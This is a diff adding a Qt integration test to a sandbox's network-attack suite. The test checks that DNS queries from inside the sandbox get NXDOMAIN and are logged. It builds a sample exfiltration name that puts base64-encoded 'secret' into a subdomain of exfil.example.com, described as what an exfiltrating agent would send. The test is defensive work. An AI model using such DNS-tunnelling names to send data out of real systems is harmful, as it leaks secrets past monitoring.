@@ -4,12 +4,15 @@
 // outside, as the same user with the same command, then fails inside; with
 // --net open the same attempt works, so the flag is what decides.
 
+#include "eventlog.h"
 #include "integrationfixture.h"
 #include "loopbackport.h"
 
+#include <QDateTime>
 #include <QElapsedTimer>
 #include <QFile>
 #include <QFileInfo>
+#include <QJsonObject>
 #include <QRandomGenerator>
 #include <QTemporaryDir>
 #include <QTest>
@@ -55,6 +58,8 @@ private slots:
     void hostLoopbackServerIsReachableWithNetOpen();
     void directDnsQueriesGetNoAnswer_data();
     void directDnsQueriesGetNoAnswer();
+    void dnsStubAnswersAndRecordsEveryQuery_data();
+    void dnsStubAnswersAndRecordsEveryQuery();
     void nameResolutionFailsFast_data();
     void nameResolutionFailsFast();
     void hostUnixSocketsAreUnreachable_data();
@@ -254,6 +259,49 @@ void NetworkAttacks::directDnsQueriesGetNoAnswer()
     const ProcessResult open =
         runner->moatRun(tools + QStringList{QStringLiteral("--net"), QStringLiteral("open")}, attempt);
     QVERIFY2(open.succeeded() && open.out.contains("answer 203.0.113.7"), qPrintable(open.describe()));
+}
+
+void NetworkAttacks::dnsStubAnswersAndRecordsEveryQuery_data()
+{
+    IntegrationFixture::addAccountColumn();
+    IntegrationFixture::addAccountRows();
+}
+
+void NetworkAttacks::dnsStubAnswersAndRecordsEveryQuery()
+{
+    MOAT_FETCH_RUNNER(fixture_, runner);
+    QString error;
+    QVERIFY2(startDnsResponder(&error), qPrintable(error));
+    // A name that carries data out, as an exfiltrating agent would build it.
+    const QString name = QStringLiteral("c2VjcmV0-%1.exfil.example.com").arg(QDateTime::currentMSecsSinceEpoch());
+    const QString tool = fixture_.install().tool(QStringLiteral("dns-query.py"));
+    const QStringList tools{QStringLiteral("--ro"), fixture_.install().dir()};
+
+    // Outside, the name reaches a DNS server, which answers.
+    const ProcessResult outside =
+        runner->host({kPython, tool, QStringLiteral("127.0.0.1"), QString::number(dnsPort_), name});
+    QVERIFY2(outside.succeeded() && outside.out.contains("answer 203.0.113.7"), qPrintable(outside.describe()));
+
+    // Inside, the sandbox's nameserver is moat's stub: NXDOMAIN at once, and
+    // the name is in the timeline.
+    const QString events = runner->workspace() + QStringLiteral("/events.jsonl");
+    const QStringList query{kPython, tool, QStringLiteral("127.0.0.1"), QStringLiteral("53"), name};
+    const ProcessResult inside = runner->moatRun(tools + QStringList{QStringLiteral("--json-events"), events}, query);
+    QVERIFY2(inside.exitCode == 1 && inside.out.contains("no address: rcode 3"), qPrintable(inside.describe()));
+    const EventLog log = EventLog::read(events);
+    QVERIFY2(log.chainProblem().isEmpty(), qPrintable(log.chainProblem()));
+    const QJsonObject recorded = log.first(QStringLiteral("dns.query")).value(QStringLiteral("data")).toObject();
+    QCOMPARE(recorded.value(QStringLiteral("name")).toString(), name.toLower());
+    QCOMPARE(recorded.value(QStringLiteral("qtype")).toString(), QStringLiteral("A"));
+    QCOMPARE(recorded.value(QStringLiteral("answer")).toString(), QStringLiteral("NXDOMAIN"));
+
+    // --net none has no listener at all: no answer, nothing recorded.
+    const QString noneEvents = runner->workspace() + QStringLiteral("/events-none.jsonl");
+    const ProcessResult none = runner->moatRun(
+        tools + QStringList{QStringLiteral("--net"), QStringLiteral("none"), QStringLiteral("--json-events"), noneEvents},
+        query);
+    QVERIFY2(none.exitCode == 1 && none.out.contains("no answer"), qPrintable(none.describe()));
+    QVERIFY(!EventLog::read(noneEvents).types().contains(QStringLiteral("dns.query")));
 }
 
 void NetworkAttacks::nameResolutionFailsFast_data()
